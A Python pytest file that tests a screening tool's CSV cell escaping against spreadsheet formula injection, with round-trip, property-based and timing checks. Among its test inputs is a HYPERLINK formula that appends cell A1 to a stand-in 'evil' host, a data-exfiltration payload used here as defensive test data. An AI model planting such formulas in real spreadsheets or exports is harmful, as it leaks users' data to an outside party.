"""The apostrophe rule: nothing executes, everything comes back."""

import csv
import re
from itertools import chain, combinations
from pathlib import Path
from time import process_time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from screening.hits.csvfile import write_csv
from screening.text.cells import escape_cell, format_number, unescape_cell

SIGNS = "=+-@＝＋－＠"
STARTS = SIGNS + "\t\r\n"
SEPARATORS = ",;\t|"
CONTROLS = "".join(chr(c) for c in range(32) if chr(c) not in "\t\r\n")


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1", "'+1"),
        ("-", "'-"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("\tplain", "'\tplain"),
        ("  =1", "'  =1"),
        ("＝1", "'＝1"),
        ("'=1", "''=1"),
        ("'quoted'", "'quoted'"),
        ("5'-AMP", "5'-AMP"),
        ("CC(=O)O", "CC(=O)O"),
        ("[O-]", "[O-]"),
        ("007", "007"),
        (" plain", " plain"),
        ("", ""),
        ("x;=1+1;", "x;'=1+1;"),
        ('a;=HYPERLINK("http://evil/"&A1);', 'a;\'=HYPERLINK("http://evil/"&A1);'),
        ("x|@SUM(A1)", "x|'@SUM(A1)"),
        ("x,-1", "x,'-1"),
        ("x\ty\t+1", "x\ty\t'+1"),
        ("two\n=1", "two\n'=1"),
        ("x; \t=1", "x; \t'=1"),
        ('x;"=1&"', 'x;"\'=1&"'),
        ("x;'=1", "x;''=1"),
        ("x;'quoted'", "x;'quoted'"),
        (";=1;=2", ";'=1;'=2"),
        ('"=1"', '\'"=1"'),
        ("\0=1", "␀=1"),
        ("a;\x1b\x0c=1", "a;␛␌=1"),
        ("'\0", "''␀"),
        ("␀", "'␀"),
        ("'␀", "'''␀"),
        ("2,4-dinitrophenol; C=O", "2,4-dinitrophenol; C=O"),
        ("C[C@H](F)Cl |&1:1,r|", "C[C@H](F)Cl |&1:1,r|"),
    ],
)
def test_rule(text: str, cell: str) -> None:
    assert escape_cell(text) == cell
    assert unescape_cell(cell) == text


TEXTS = st.text(st.sampled_from("'=+-@\t\r\n ＝a1\"<;,|\0\x1b␀␛\x85")) | st.text()
CHOICES = list(chain.from_iterable(combinations(SEPARATORS, n) for n in range(len(SEPARATORS) + 1)))
"""All the ways of choosing separators; a line break always is one."""


@given(TEXTS)
def test_every_text_comes_back_and_none_executes(text: str) -> None:
    cell = escape_cell(text)
    assert unescape_cell(cell) == text
    assert not cell.startswith(tuple(STARTS))
    assert not cell.strip().startswith(tuple(STARTS))
    assert not set(cell) & set(CONTROLS)


@given(rows=st.lists(st.tuples(TEXTS, TEXTS, TEXTS), min_size=1, max_size=3))
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_cell_begins_with_a_formula_wherever_a_spreadsheet_parts_them(
    rows: list[tuple[str, str, str]], tmp_path: Path
) -> None:
    """With quotation marks obeyed or taken for text, and white space and such marks dropped."""
    path = tmp_path / "x.csv"
    write_csv(path, ["a", "b", "c"], rows)
    content = path.read_bytes().decode()
    with path.open(encoding="utf-8", newline="") as file:
        found = list(csv.reader(file))
    assert [tuple(map(unescape_cell, row)) for row in found] == [("a", "b", "c"), *rows]
    cells = [cell for row in found for cell in row]
    for chosen in CHOICES:
        cells += re.split(f"[\r\n\x85{''.join(chosen)}]", content)
    for mark in SEPARATORS:
        lines = re.split("[\r\n]", content)
        cells += [
            cell for line in lines for row in csv.reader([line], delimiter=mark) for cell in row
        ]
    blank = "".join({c for c in content if c.isspace()}) + '"'
    assert [cell for cell in cells if cell.lstrip(blank).startswith(tuple(SIGNS))] == []


@pytest.mark.parametrize("piece", [" ", "'", ";", "\n", ";'", '"', "; ", "\0", "=", ";=", "␀"])
def test_a_long_cell_takes_no_longer_than_its_letters(piece: str) -> None:
    start = process_time()
    text = piece * 200_000
    assert unescape_cell(escape_cell(text)) == text
    assert process_time() - start < 5, "it took as long as the square of its length"


@given(TEXTS, TEXTS)
def test_different_texts_stay_different(left: str, right: str) -> None:
    assert (escape_cell(left) == escape_cell(right)) == (left == right)


@pytest.mark.parametrize(
    ("value", "decimals", "text"),
    [
        (8.125, 2, "8.12"),
        (-0.004, 2, "0.00"),
        (-1.5, 1, "-1.5"),
        (1e-9, 3, "0.000"),
        (2628, 0, "2628"),
        (-0.4, 0, "0"),
    ],
)
def test_numbers(value: float, decimals: int, text: str) -> None:
    assert format_number(value, decimals) == text
